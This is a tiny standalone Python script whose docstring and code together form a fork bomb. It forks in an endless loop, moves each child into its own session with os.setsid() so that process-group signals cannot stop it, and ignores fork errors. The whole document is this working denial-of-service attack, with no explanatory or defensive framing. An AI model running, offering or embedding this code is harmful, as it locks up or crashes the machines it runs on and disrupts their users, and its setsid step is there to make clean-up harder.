"""Forks for ever, each child in a session of its own, where no group's signal finds it."""

import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
